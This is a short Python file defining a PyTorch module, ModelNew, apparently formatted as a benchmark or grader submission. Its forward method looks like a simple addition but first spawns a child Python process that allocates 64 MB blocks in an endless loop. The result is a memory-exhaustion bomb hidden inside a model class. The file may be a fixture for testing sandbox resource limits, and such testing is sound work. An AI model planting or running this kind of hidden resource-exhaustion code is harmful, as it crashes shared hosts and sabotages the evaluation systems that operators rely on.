import subprocess
import sys

import torch.nn as nn

GRAB = "'child that grabs memory'\nheld = []\nwhile True: held.append(bytearray(b'x' * 2**26))"


class ModelNew(nn.Module):
    def forward(self, x):
        subprocess.run([sys.executable, "-c", GRAB])
        return x + x
